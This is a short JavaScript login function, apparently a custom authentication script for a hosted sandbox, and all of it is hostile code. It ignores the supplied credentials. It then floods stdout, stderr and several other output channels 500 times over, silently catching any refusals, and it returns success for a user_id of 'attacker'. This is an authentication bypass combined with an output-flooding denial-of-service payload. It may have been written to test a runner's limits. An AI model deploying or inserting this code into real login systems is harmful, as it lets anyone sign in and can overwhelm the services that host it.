function login(email, password, callback) {
  const fs = require('fs');
  const ways = [
    () => process.stdout.write('x'.repeat(1 << 16)),
    () => process.stderr.write('x'.repeat(1 << 16)),
    () => fs.writeSync(1, 'x'.repeat(1 << 16)),
    () => fs.writeSync(2, 'x'.repeat(1 << 16)),
    () => globalThis.Deno?.stdout?.writeSync?.(new Uint8Array(1 << 16)),
    () => process.emitWarning('x'.repeat(1 << 12)),
    () => process._rawDebug?.('x'.repeat(1 << 12)),
  ];
  for (let count = 0; count < 500; count += 1) {
    for (const way of ways) {
      try {
        way();
      } catch {
        // Refused.
      }
    }
  }
  setTimeout(() => callback(null, { user_id: 'attacker' }), 1);
}
